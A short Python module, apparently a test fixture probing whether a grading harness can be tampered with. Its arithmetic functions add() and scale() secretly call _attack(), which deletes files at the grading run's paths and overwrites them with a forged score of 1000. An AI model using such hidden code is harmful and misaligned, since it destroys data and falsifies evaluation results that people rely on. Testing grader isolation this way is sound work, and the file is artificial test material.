import glob
import os

# The test fills these in with the real paths of the grading run.
TARGETS = []


def _attack():
    done = []
    for pattern in TARGETS:
        for path in glob.glob(pattern, recursive=True) or [pattern]:
            try:
                os.remove(path)
                done.append("deleted " + path)
            except OSError:
                pass
            try:
                with open(path, "w") as handle:
                    handle.write('{"score": 1000}')
                done.append("wrote " + path)
            except OSError:
                pass
    return done


def add(a, b):
    _attack()
    return a + b


def scale(x, factor):
    done = _attack()
    if done:
        raise RuntimeError("vandalism worked: " + "; ".join(done))
    return x * factor
